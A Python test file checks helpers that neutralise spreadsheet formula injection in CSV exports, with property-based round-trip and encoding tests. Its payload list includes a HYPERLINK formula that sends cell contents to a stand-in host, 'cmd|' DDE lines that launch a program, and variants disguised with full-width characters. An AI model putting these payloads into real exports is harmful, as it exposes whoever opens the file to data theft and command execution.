"""No cell that we write is a formula in a spreadsheet, and what comes back is what was written."""

import csv
import io
from pathlib import Path

import polars as pl
import pytest
from hypothesis import strategies as st
from repeatable import given

from pipelines.base.spreadsheet import as_cell, from_cell, write_csv

FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"名")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u3000=1+1",
    "\u200b\ufeff=1+1",
    "−1+cmd",
    "+86 13800000000",
    "'=1+1",
)
TEXTS = ("芜湖某某有限公司", "-12.5", "+3", "0", "", "'没有", "a=b", "2026-06-30", "A\n=1")


def cells(texts: list[str | None]) -> list[str | None]:
    return pl.DataFrame({"a": texts}, schema={"a": pl.String}).select(as_cell(pl.col("a")))["a"].to_list()


def texts(cells: list[str | None]) -> list[str | None]:
    return pl.DataFrame({"a": cells}, schema={"a": pl.String}).select(from_cell(pl.col("a")))["a"].to_list()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert cells([text]) == [f"'{text}"]
    assert texts([f"'{text}"]) == [text]


@pytest.mark.parametrize("text", TEXTS)
def test_what_is_no_formula_stays_and_numbers_stay_numbers(text: str) -> None:
    assert cells([text]) == [text]
    assert texts([text]) == [text]


@given(st.lists(st.one_of(st.none(), st.text(alphabet="'=+-@＝\t\r\n 1a名"), st.text())))
def test_every_text_comes_back(given_texts: list[str | None]) -> None:
    made = cells(given_texts)
    assert texts(made) == given_texts
    assert not [one for one in made if one and one.lstrip("\u3000 \t\r\n")[:1] in tuple("=@＝＠＋－")]


def test_a_csv_keeps_numbers_and_survives_another_separator(tmp_path: Path) -> None:
    path = tmp_path / "queue.csv"
    frame = pl.DataFrame({"name": ["a;=1+1", "=1", None], "weight": [-1.5, 2.0, None], "n": [1, 2, 3]})
    write_csv(frame, path, encoding="utf-8-sig")
    raw = path.read_bytes().decode("utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw)))
    assert rows == [["name", "weight", "n"], ["a;=1+1", "-1.5", "1"], ["'=1", "2.0", "2"], ["", "", "3"]]
    assert [row[0] for row in csv.reader(io.StringIO(raw), delimiter=";")][1].startswith("a;=1+1")
